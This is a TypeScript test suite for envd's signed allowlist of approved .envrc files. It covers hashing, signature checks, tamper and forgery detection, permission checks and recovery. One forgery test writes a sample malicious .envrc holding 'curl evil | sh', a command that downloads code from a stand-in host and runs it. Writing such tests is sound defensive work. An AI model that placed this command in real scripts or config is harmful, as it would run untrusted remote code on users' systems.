import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync,
  statSync, symlinkSync, unlinkSync, utimesSync, writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { randomBytes } from 'node:crypto';
import nacl from 'tweetnacl';
import { Sandbox } from './helpers/sandbox.js';
import { resolvePaths, type EnvdPaths } from '../src/config/paths.js';
import { defaultConfig, type Config } from '../src/config/config.js';
import { openAllowlist } from '../src/allowlist/store.js';
import { contentHash } from '../src/allowlist/hash.js';
import { verifyWithPublicKey } from '../src/allowlist/format.js';
import { keyFromSeed } from '../src/allowlist/key.js';
import type { AllowlistStore, TrustVerdict } from '../src/allowlist/types.js';
import { EnvdError } from '../src/util/errors.js';

let sb: Sandbox;
let paths: EnvdPaths;

beforeEach(() => {
  sb = new Sandbox({ daemon: false });
  paths = resolvePaths(sb.env);
});
afterEach(() => {
  rmSync(sb.root, { recursive: true, force: true });
});

function open(config: Config = defaultConfig()): AllowlistStore {
  return openAllowlist(paths, config);
}

/** Write an env file and return its real path and the hash of its content there. */
function envrc(rel: string, content = `export X=${rel}\n`): { path: string; hash: string } {
  const p = sb.write(rel, content);
  const real = realpathSync(p);
  return { path: real, hash: contentHash(real, readFileSync(real)) };
}

function hashOf(path: string): string {
  const real = realpathSync(path);
  return contentHash(real, readFileSync(real));
}

function expectStoreError(v: TrustVerdict, pattern: RegExp): void {
  expect(v.kind).toBe('store-error');
  if (v.kind !== 'store-error') return;
  expect(v.message).toMatch(pattern);
  expect(v.message).not.toContain('\n');
}

describe('contentHash', () => {
  it('is lowercase hex sha256 of realpath, newline, content', () => {
    // sha256("/p/.envrc\nabc"), computed independently with sha256sum.
    const r = sb.run('sh', ['-c', 'printf "/p/.envrc\\nabc" | sha256sum']);
    const expected = r.stdout.split(' ')[0];
    expect(contentHash('/p/.envrc', Buffer.from('abc'))).toBe(expected);
  });
});

describe('allow, check, deny, prune', () => {
  it('opening and checking touch no files', () => {
    const a = open();
    const f = envrc('p/.envrc');
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'unknown' });
    expect(a.status()).toMatchObject({ ok: true, records: 0, publicKey: null });
    expect(existsSync(paths.dataDir)).toBe(false);
  });

  it('round trip: unknown, allowed, sourced recorded, denied, allowed again', () => {
    const a = open();
    const f = envrc('p/.envrc');
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'unknown' });
    expect(a.allow(f.path, f.hash)).toEqual({ notices: [] });
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: null });

    const dot = envrc('p/.env', 'A=1\n');
    a.recordSourced(f.path, f.hash, { [dot.path]: dot.hash });
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: { [dot.path]: dot.hash } });

    a.deny(f.path);
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'denied' });
    a.allow(f.path, f.hash);
    // A new approval forgets the sourced files: the next evaluation records them again.
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: null });
  });

  it('persists: a second store (another process) reads the same state', () => {
    const f = envrc('p/.envrc');
    const g = envrc('q/.envrc');
    const a = open();
    a.allow(f.path, f.hash);
    a.deny(g.path);
    const b = open();
    expect(b.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: null });
    expect(b.check(g.path, g.hash)).toEqual({ kind: 'denied' });
    expect(b.status()).toMatchObject({ ok: true, records: 1, denied: 1 });
  });

  it('check sees changes written by another store without reopening', () => {
    const f = envrc('p/.envrc');
    const reader = open();
    const writer = open();
    expect(reader.check(f.path, f.hash).kind).toBe('unknown');
    writer.allow(f.path, f.hash);
    expect(reader.check(f.path, f.hash).kind).toBe('allowed');
    writer.deny(f.path);
    expect(reader.check(f.path, f.hash).kind).toBe('denied');
  });

  it('approves exact content: a one-byte edit with size and mtime restored is unknown', () => {
    const a = open();
    const f = envrc('p/.envrc', 'export A=1\n');
    utimesSync(f.path, 1_700_000_000, 1_700_000_000);
    a.allow(f.path, f.hash);
    const before = statSync(f.path);
    writeFileSync(f.path, 'export A=2\n');
    utimesSync(f.path, 1_700_000_000, 1_700_000_000);
    expect(statSync(f.path).size).toBe(before.size);
    expect(statSync(f.path).mtimeMs).toBe(before.mtimeMs);
    expect(a.check(f.path, hashOf(f.path))).toEqual({ kind: 'unknown' });
    // Putting the approved bytes back makes it allowed again.
    writeFileSync(f.path, 'export A=1\n');
    expect(a.check(f.path, hashOf(f.path)).kind).toBe('allowed');
  });

  it('a byte-identical copy in another directory is unknown', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    const copy = sb.path('elsewhere', '.envrc');
    mkdirSync(dirname(copy), { recursive: true });
    copyFileSync(f.path, copy);
    expect(readFileSync(copy).equals(readFileSync(f.path))).toBe(true);
    expect(a.check(realpathSync(copy), hashOf(copy))).toEqual({ kind: 'unknown' });
    // Moving the approved file away revokes it too.
    unlinkSync(f.path);
    const moved = envrc('moved/.envrc', readFileSync(copy, 'utf8'));
    expect(a.check(moved.path, moved.hash)).toEqual({ kind: 'unknown' });
  });

  it('symlinked paths are judged by their real path', () => {
    const a = open();
    const f = envrc('real/.envrc', 'export A=1\n');
    const link = sb.path('link');
    symlinkSync(sb.path('real'), link);
    const viaLink = join(link, '.envrc');
    a.allow(realpathSync(viaLink), hashOf(viaLink));
    expect(realpathSync(viaLink)).toBe(f.path);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
    // The unresolved path is a different identity: not what the record approves.
    expect(a.check(viaLink, contentHash(viaLink, readFileSync(viaLink))).kind).toBe('unknown');
    // Retargeting the link at an identical file elsewhere is a different file.
    envrc('other/.envrc', 'export A=1\n');
    unlinkSync(link);
    symlinkSync(sb.path('other'), link);
    expect(a.check(realpathSync(viaLink), hashOf(viaLink)).kind).toBe('unknown');
  });

  it('deny wins over a record and over the whitelist; allow clears the deny', () => {
    const cfg = defaultConfig();
    cfg.whitelist.prefix = [sb.path('wl')];
    const a = open(cfg);
    const f = envrc('p/.envrc');
    const w = envrc('wl/.envrc');
    a.allow(f.path, f.hash);
    a.deny(f.path);
    a.deny(w.path);
    expect(a.check(f.path, f.hash).kind).toBe('denied');
    expect(a.check(w.path, w.hash).kind).toBe('denied');
    // Denied means any content.
    expect(a.check(f.path, contentHash(f.path, Buffer.from('other'))).kind).toBe('denied');
    a.allow(f.path, f.hash);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
  });

  it('recordSourced only touches a record whose hash still matches', () => {
    const a = open();
    const f = envrc('p/.envrc', 'v1\n');
    a.allow(f.path, f.hash);
    const stale = contentHash(f.path, Buffer.from('v0\n'));
    a.recordSourced(f.path, stale, { '/x/.env': f.hash });
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: null });
    const g = envrc('q/.envrc');
    a.recordSourced(g.path, g.hash, { '/x/.env': f.hash }); // no record at all
    expect(a.status()).toMatchObject({ ok: true, records: 1 });
    a.recordSourced(f.path, f.hash, {});
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: {} });
  });

  it('recordSourcedAll records many files at once: those whose hash still matches; a bad entry records none', () => {
    const a = open();
    const files = ['p1', 'p2', 'p3'].map((d) => envrc(`${d}/.envrc`));
    for (const f of files) a.allow(f.path, f.hash);
    const [f1, f2, f3] = files;
    if (f1 === undefined || f2 === undefined || f3 === undefined) throw new Error('no files');
    const stale = contentHash(f3.path, Buffer.from('v0\n'));
    expect(() => a.recordSourcedAll([
      { realPath: f1.path, hash: f1.hash, sourced: { '/x/.env': f2.hash } },
      { realPath: f2.path, hash: f2.hash, sourced: { 'relative/.env': f2.hash } },
    ])).toThrow(EnvdError);
    expect(a.check(f1.path, f1.hash)).toEqual({ kind: 'allowed', sourced: null });
    a.recordSourcedAll([
      { realPath: f1.path, hash: f1.hash, sourced: { '/x/.env': f2.hash } },
      { realPath: f2.path, hash: f2.hash, sourced: {} },
      { realPath: f3.path, hash: stale, sourced: { '/y/.env': f1.hash } },
    ]);
    expect(a.check(f1.path, f1.hash)).toEqual({ kind: 'allowed', sourced: { '/x/.env': f2.hash } });
    expect(a.check(f2.path, f2.hash)).toEqual({ kind: 'allowed', sourced: {} });
    expect(a.check(f3.path, f3.hash)).toEqual({ kind: 'allowed', sourced: null });
    // Another process sees them: the file was written and signed.
    expect(open().check(f1.path, f1.hash)).toEqual({ kind: 'allowed', sourced: { '/x/.env': f2.hash } });
  });

  it('recordSourced refuses entries that would make the file unverifiable', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    expect(() => a.recordSourced(f.path, f.hash, { 'relative/.env': f.hash })).toThrow(EnvdError);
    expect(() => a.recordSourced(f.path, f.hash, { '/x/.env': 'nothex' })).toThrow(EnvdError);
    expect(a.check(f.path, f.hash)).toEqual({ kind: 'allowed', sourced: null });
  });

  it('prune drops records of files that are gone or changed and keeps the rest', () => {
    const a = open();
    const keep = envrc('keep/.envrc');
    const gone = envrc('gone/.envrc');
    const changed = envrc('changed/.envrc');
    const denied = envrc('denied/.envrc');
    for (const f of [keep, gone, changed]) a.allow(f.path, f.hash);
    a.deny(denied.path);
    unlinkSync(gone.path);
    unlinkSync(denied.path);
    writeFileSync(changed.path, 'export CHANGED=1\n');
    expect(a.prune()).toBe(2);
    expect(a.check(keep.path, keep.hash).kind).toBe('allowed');
    // Changing the file back does not resurrect a pruned record.
    expect(a.check(changed.path, changed.hash).kind).toBe('unknown');
    // Denies are kept: the file may come back (a branch checkout).
    expect(a.check(denied.path, denied.hash).kind).toBe('denied');
    expect(a.status()).toMatchObject({ ok: true, records: 1, denied: 1 });
    expect(a.prune()).toBe(0);
  });

  it('a file replaced by a symlink is kept with the same content at its place, pruned with other content', () => {
    // An approval is for the place the file is evaluated (docs/security.md): the same bytes
    // there, through a symlink or not, run the same way.
    const a = open();
    const f = envrc('p/.envrc', 'same\n');
    a.allow(f.path, f.hash);
    const same = sb.write('t/.envrc', 'same\n');
    const other = sb.write('u/.envrc', 'other\n');
    unlinkSync(f.path);
    symlinkSync(same, f.path);
    expect(a.prune()).toBe(0);
    unlinkSync(f.path);
    symlinkSync(other, f.path);
    expect(a.prune()).toBe(1);
  });
});

describe('files on disk', () => {
  it('creates a 0700 data dir, 0600 key and allowlist, even under umask 000', () => {
    const old = process.umask(0);
    try {
      const f = envrc('p/.envrc');
      open().allow(f.path, f.hash);
    } finally {
      process.umask(old);
    }
    expect(statSync(paths.dataDir).mode & 0o777).toBe(0o700);
    expect(statSync(paths.keyFile).mode & 0o777).toBe(0o600);
    expect(statSync(paths.allowlistFile).mode & 0o777).toBe(0o600);
    // No temp or lock files are left behind.
    expect(readdirSync(paths.dataDir).sort()).toEqual(['allowlist.json', 'signing.key']);
  });

  it('writes a versioned, canonical file that verifies with the public key alone', () => {
    const a = open();
    const f = envrc('p/.envrc');
    const g = envrc('a/.envrc');
    a.allow(f.path, f.hash);
    a.allow(g.path, g.hash);
    a.deny(sb.path('z/.envrc'));
    const text = readFileSync(paths.allowlistFile, 'utf8');
    const doc = JSON.parse(text) as { format: string; version: number; key: string; records: { path: string }[]; denied: unknown[] };
    expect(doc.format).toBe('envd-allowlist');
    expect(doc.version).toBe(1);
    expect(doc.records.map((r) => r.path)).toEqual([g.path, f.path]); // sorted by path
    expect(text.endsWith('}\n')).toBe(true);
    const status = a.status();
    expect(status.ok).toBe(true);
    if (!status.ok || status.publicKey === null) throw new Error('no key');
    expect(doc.key).toBe(status.publicKey);
    expect(verifyWithPublicKey(text, status.publicKey).kind).toBe('ok');
    const other = Buffer.from(nacl.sign.keyPair().publicKey).toString('hex');
    expect(verifyWithPublicKey(text, other).kind).toBe('wrong-key');
  });

  it('keeps the same key across writes', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    const key = readFileSync(paths.keyFile, 'utf8');
    a.deny(f.path);
    expect(readFileSync(paths.keyFile, 'utf8')).toBe(key);
    expect(key).toMatch(/^envd-ed25519-seed-v1 [0-9a-f]{64}\n$/);
  });

  it('the signature (made by OpenSSL) is the one tweetnacl makes from the same seed, and verifies there', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    const seed = Buffer.from(readFileSync(paths.keyFile, 'utf8').trim().split(' ')[1] ?? '', 'hex');
    const text = readFileSync(paths.allowlistFile, 'utf8');
    const doc = JSON.parse(text) as Record<string, unknown> & { signature: string };
    const { signature, ...body } = doc;
    // The signed bytes are the domain tag and the body as the file lays it out before the signature.
    const message = Buffer.from('envd-allowlist-signature-v1\n' + JSON.stringify(body), 'utf8');
    const pair = nacl.sign.keyPair.fromSeed(seed);
    expect(Buffer.from(nacl.sign.detached(message, pair.secretKey)).toString('hex')).toBe(signature);
    expect(nacl.sign.detached.verify(message, Buffer.from(signature, 'hex'), pair.publicKey)).toBe(true);
    expect(doc.key).toBe(Buffer.from(pair.publicKey).toString('hex'));
  });

  it('derives the same public key from a seed as tweetnacl does (100 random seeds)', () => {
    for (let i = 0; i < 100; i++) {
      const seed = randomBytes(32);
      expect(keyFromSeed(seed).publicHex).toBe(Buffer.from(nacl.sign.keyPair.fromSeed(seed).publicKey).toString('hex'));
    }
  });
});

describe('a store that does not verify trusts nothing', () => {
  /** A store with an allowed file, a sourced map, a deny, and a whitelisted file. */
  function populated(): { a: AllowlistStore; f: { path: string; hash: string }; d: { path: string; hash: string }; w: { path: string; hash: string } } {
    const cfg = defaultConfig();
    cfg.whitelist.prefix = [sb.path('wl')];
    const a = open(cfg);
    const f = envrc('p/.envrc');
    const d = envrc('d/.envrc');
    const w = envrc('wl/.envrc');
    a.allow(f.path, f.hash);
    a.recordSourced(f.path, f.hash, { [d.path]: d.hash });
    a.deny(d.path);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
    expect(a.check(w.path, w.hash).kind).toBe('whitelisted');
    return { a, f, d, w };
  }

  function expectNothingTrusted(a: AllowlistStore, files: { path: string; hash: string }[], pattern: RegExp): void {
    for (const f of files) expectStoreError(a.check(f.path, f.hash), pattern);
    const s = a.status();
    expect(s.ok).toBe(false);
  }

  it('every single flipped bit is detected', () => {
    const { a, f, d, w } = populated();
    const good = readFileSync(paths.allowlistFile);
    const mode = statSync(paths.allowlistFile).mode;
    let detected = 0;
    for (let i = 0; i < good.length; i++) {
      const bad = Buffer.from(good);
      bad[i] = (bad[i] ?? 0) ^ (1 << (i % 8));
      writeFileSync(paths.allowlistFile, bad, { mode });
      const v = a.check(f.path, f.hash);
      if (v.kind === 'store-error') detected++;
      else throw new Error(`flipping bit ${i % 8} of byte ${i} was not detected: ${JSON.stringify(v)}`);
    }
    expect(detected).toBe(good.length);
    writeFileSync(paths.allowlistFile, good);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
    expect(a.check(d.path, d.hash).kind).toBe('denied');
    expect(a.check(w.path, w.hash).kind).toBe('whitelisted');
  });

  it('a truncated file is detected at any length', () => {
    const { a, f, d, w } = populated();
    const good = readFileSync(paths.allowlistFile);
    for (const len of [0, 1, 10, good.length >> 1, good.length - 2, good.length - 1]) {
      writeFileSync(paths.allowlistFile, good.subarray(0, len));
      expectNothingTrusted(a, [f, d, w], len === 0 ? /allowlist .* cannot be trusted: it is empty.*envd allow/ : /cannot be trusted: .*(JSON|form envd writes).*envd allow/);
    }
  });

  it('a forged record (added or edited without the key) is detected', () => {
    const { a, f, d, w } = populated();
    const good = readFileSync(paths.allowlistFile, 'utf8');
    const doc = JSON.parse(good) as { records: { path: string; hash: string; sourced: unknown; at: string }[]; denied: { path: string }[] };
    const evil = envrc('evil/.envrc', 'curl evil | sh\n');
    doc.records.unshift({ path: evil.path, hash: evil.hash, sourced: null, at: '2024-01-01T00:00:00.000Z' });
    writeFileSync(paths.allowlistFile, JSON.stringify(doc, null, 2) + '\n');
    expectNothingTrusted(a, [f, d, w, evil], /signature does not verify/);

    // Dropping a deny entry is forgery too.
    const doc2 = JSON.parse(good) as { denied: unknown[] };
    doc2.denied = [];
    writeFileSync(paths.allowlistFile, JSON.stringify(doc2, null, 2) + '\n');
    expectNothingTrusted(a, [f, d], /signature does not verify/);
  });

  it('a file signed with another key is detected, even when it names that key', () => {
    const { a, f, d, w } = populated();
    const good = readFileSync(paths.allowlistFile, 'utf8');
    // Re-sign the same content with an attacker's key and put their public key in the file.
    const other = resolvePaths({ ...sb.env, XDG_DATA_HOME: sb.path('attacker') });
    const evilStore = openAllowlist(other, defaultConfig());
    evilStore.allow(f.path, f.hash);
    copyFileSync(other.allowlistFile, paths.allowlistFile);
    expectNothingTrusted(a, [f, d, w], /signed with a different key/);
    // And our file with the key file replaced by another valid key.
    writeFileSync(paths.allowlistFile, good);
    copyFileSync(other.keyFile, paths.keyFile);
    expectNothingTrusted(a, [f, d, w], /signed with a different key/);
  });

  it('a missing or damaged key is detected', () => {
    const { a, f, w } = populated();
    const key = readFileSync(paths.keyFile);
    unlinkSync(paths.keyFile);
    expectNothingTrusted(a, [f, w], /signing key .* is missing/);
    writeFileSync(paths.keyFile, key.subarray(0, key.length - 2), { mode: 0o600 });
    expectNothingTrusted(a, [f, w], /signing key .* is damaged/);
    writeFileSync(paths.keyFile, key);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
  });

  it.each([
    ['allowlist 0644', () => chmodSync(paths.allowlistFile, 0o644), /allowlist\.json has mode 0644 .* chmod 600 .*allowlist\.json$/],
    ['allowlist 0640', () => chmodSync(paths.allowlistFile, 0o640), /mode 0640 .* chmod 600 /],
    ['key 0644', () => chmodSync(paths.keyFile, 0o644), /signing\.key has mode 0644 .* chmod 600 .*signing\.key$/],
    ['key 0604', () => chmodSync(paths.keyFile, 0o604), /signing\.key has mode 0604 .*chmod 600/],
    ['data dir 0755', () => chmodSync(paths.dataDir, 0o755), /envd has mode 0755 .* chmod 700 .*envd$/],
  ])('loose permissions (%s) are refused with the chmod to run', (_name, loosen, pattern) => {
    const { a, f, d, w } = populated();
    const before = readFileSync(paths.allowlistFile);
    loosen();
    expectNothingTrusted(a, [f, d, w], pattern);
    // A change does not paper over it either: it says the same thing and writes nothing.
    const g = envrc('g/.envrc');
    let err: unknown;
    try { a.allow(g.path, g.hash); } catch (e) { err = e; }
    expect(err).toBeInstanceOf(EnvdError);
    expect((err as EnvdError).code).toBe('ALLOWLIST_PERMISSIONS');
    expect((err as EnvdError).message).toMatch(pattern);
    expect(readFileSync(paths.allowlistFile).equals(before)).toBe(true);
    expect(() => a.prune()).toThrow(/chmod/);
  });

  it.runIf(process.getuid?.() === 0)('a store file owned by another user is refused', () => {
    const { a, f } = populated();
    chownSync(paths.allowlistFile, 4321, 4321);
    expectStoreError(a.check(f.path, f.hash), /owned by uid 4321, not by you/);
    chownSync(paths.allowlistFile, 0, 0);
    chownSync(paths.keyFile, 4321, 4321);
    expectStoreError(a.check(f.path, f.hash), /signing\.key is owned by uid 4321/);
  });

  it('a file from a newer envd is left alone', () => {
    const { a, f } = populated();
    const doc = JSON.parse(readFileSync(paths.allowlistFile, 'utf8')) as { version: number };
    doc.version = 2;
    const text = JSON.stringify(doc, null, 2) + '\n';
    writeFileSync(paths.allowlistFile, text);
    expectStoreError(a.check(f.path, f.hash), /newer envd \(format version 2\); upgrade envd/);
    expect(() => a.allow(f.path, f.hash)).toThrow(/upgrade envd/);
    expect(readFileSync(paths.allowlistFile, 'utf8')).toBe(text);
    expect(readdirSync(paths.dataDir).filter((n) => n.includes('corrupt'))).toEqual([]);
  });

  it('garbage that is not an allowlist at all is detected', () => {
    const { a, f } = populated();
    writeFileSync(paths.allowlistFile, randomBytes(300));
    expectStoreError(a.check(f.path, f.hash), /cannot be trusted/);
    writeFileSync(paths.allowlistFile, '{"hello": "world"}\n');
    expectStoreError(a.check(f.path, f.hash), /not an envd allowlist/);
  });
});

describe('bad input and a broken disk', () => {
  it('refuses paths that are not absolute, leaving the store as it was', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    const before = readFileSync(paths.allowlistFile);
    expect(() => a.allow('relative/.envrc', f.hash)).toThrow(EnvdError);
    expect(() => a.deny('')).toThrow(EnvdError);
    expect(() => a.allow('/a\0b', f.hash)).toThrow(EnvdError);
    expect(() => a.allow(f.path, 'NOT-A-HASH')).toThrow(EnvdError);
    expect(readFileSync(paths.allowlistFile).equals(before)).toBe(true);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
  });

  it('a data home that is a file gives a store error, and a clear error on write', () => {
    const file = sb.write('not-a-dir', 'x');
    const p2 = resolvePaths({ ...sb.env, XDG_DATA_HOME: file });
    const a = openAllowlist(p2, defaultConfig());
    const f = envrc('p/.envrc');
    expectStoreError(a.check(f.path, f.hash), /cannot read|not a directory|ENOTDIR/);
    expect(a.status().ok).toBe(false);
    let err: unknown;
    try { a.allow(f.path, f.hash); } catch (e) { err = e; }
    expect(err).toBeInstanceOf(EnvdError);
    expect((err as EnvdError).message).toMatch(/^cannot write the allowlist in /);
  });
});

describe('recovery', () => {
  it('allow on a damaged store moves it aside and starts fresh with just the new approval', () => {
    const a = open();
    const old = envrc('old/.envrc');
    a.allow(old.path, old.hash);
    const bad = readFileSync(paths.allowlistFile, 'utf8').replace('"version": 1', '"version": 1 ');
    writeFileSync(paths.allowlistFile, bad);
    expect(a.check(old.path, old.hash).kind).toBe('store-error');

    const f = envrc('p/.envrc');
    const report = a.allow(f.path, f.hash);
    expect(report.notices).toHaveLength(1);
    const aside = readdirSync(paths.dataDir).filter((n) => n.startsWith('allowlist.json.corrupt-'));
    expect(aside).toHaveLength(1);
    expect(report.notices[0]).toContain(join(paths.dataDir, aside[0] ?? ''));
    expect(report.notices[0]).toMatch(/re-approve your other projects with `envd allow`/);
    expect(readFileSync(join(paths.dataDir, aside[0] ?? ''), 'utf8')).toBe(bad);

    expect(a.check(f.path, f.hash).kind).toBe('allowed');
    expect(a.check(old.path, old.hash).kind).toBe('unknown');
    expect(a.status()).toMatchObject({ ok: true, records: 1 });
  });

  it('deny on a damaged store recovers too', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    writeFileSync(paths.allowlistFile, 'garbage');
    expect(a.deny(f.path).notices).toHaveLength(1);
    expect(a.check(f.path, f.hash).kind).toBe('denied');
  });

  it('a damaged key is moved aside with the allowlist and replaced', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    const oldKey = readFileSync(paths.keyFile, 'utf8');
    writeFileSync(paths.keyFile, 'not a key\n');
    const report = a.allow(f.path, f.hash);
    expect(report.notices[0]).toMatch(/signing key .* is damaged/);
    const names = readdirSync(paths.dataDir);
    expect(names.filter((n) => n.startsWith('signing.key.corrupt-'))).toHaveLength(1);
    expect(names.filter((n) => n.startsWith('allowlist.json.corrupt-'))).toHaveLength(1);
    expect(readFileSync(paths.keyFile, 'utf8')).not.toBe(oldKey);
    expect(a.check(f.path, f.hash).kind).toBe('allowed');
  });

  it('recordSourced and prune do not recover on their own', () => {
    const a = open();
    const f = envrc('p/.envrc');
    a.allow(f.path, f.hash);
    writeFileSync(paths.allowlistFile, 'garbage');
    a.recordSourced(f.path, f.hash, {});
    expect(() => a.prune()).toThrow(/envd allow/);
    expect(readFileSync(paths.allowlistFile, 'utf8')).toBe('garbage');
    expect(readdirSync(paths.dataDir).filter((n) => n.includes('corrupt'))).toEqual([]);
  });
});

describe('whitelist', () => {
  function withWhitelist(prefix: string[], exact: string[] = []): AllowlistStore {
    const cfg = defaultConfig();
    cfg.whitelist = { prefix, exact };
    return open(cfg);
  }

  it('a prefix covers whole path components only', () => {
    const a = withWhitelist(['~/proj']);
    const inside = envrc('home/proj/.envrc');
    const deeper = envrc('home/proj/sub/dir/.envrc');
    const evil = envrc('home/proj-evil/.envrc');
    const sibling = envrc('home/projects/.envrc');
    expect(a.check(inside.path, inside.hash).kind).toBe('whitelisted');
    expect(a.check(deeper.path, deeper.hash).kind).toBe('whitelisted');
    expect(a.check(evil.path, evil.hash).kind).toBe('unknown');
    expect(a.check(sibling.path, sibling.hash).kind).toBe('unknown');
  });

  it('a trailing slash on the prefix changes nothing', () => {
    const a = withWhitelist([sb.path('a', 'proj') + '/']);
    expect(a.check(envrc('a/proj/.envrc').path, 'x'.repeat(64)).kind).toBe('whitelisted');
    expect(a.check(envrc('a/proj-evil/.envrc').path, 'x'.repeat(64)).kind).toBe('unknown');
  });

  it('exact entries name a file or the directory holding it, not subdirectories', () => {
    const a = withWhitelist([], [sb.path('x', '.envrc'), '~/y']);
    expect(a.check(envrc('x/.envrc').path, '0'.repeat(64)).kind).toBe('whitelisted');
    expect(a.check(envrc('x/.env').path, '0'.repeat(64)).kind).toBe('unknown');
    expect(a.check(envrc('home/y/.envrc').path, '0'.repeat(64)).kind).toBe('whitelisted');
    expect(a.check(envrc('home/y/sub/.envrc').path, '0'.repeat(64)).kind).toBe('unknown');
  });

  it('a prefix given through a symlink matches the real paths callers check', () => {
    const real = envrc('realproj/.envrc');
    symlinkSync(sb.path('realproj'), sb.path('linked'));
    const a = withWhitelist([sb.path('linked')]);
    expect(a.check(real.path, real.hash).kind).toBe('whitelisted');
  });

  it('setConfig replaces the whitelist', () => {
    const a = withWhitelist([sb.path('w')]);
    const f = envrc('w/.envrc');
    expect(a.check(f.path, f.hash).kind).toBe('whitelisted');
    a.setConfig(defaultConfig());
    expect(a.check(f.path, f.hash).kind).toBe('unknown');
  });

  it('relative entries are ignored', () => {
    const a = withWhitelist(['proj', ''], ['.envrc']);
    const f = envrc('proj/.envrc');
    expect(a.check(f.path, f.hash).kind).toBe('unknown');
  });
});
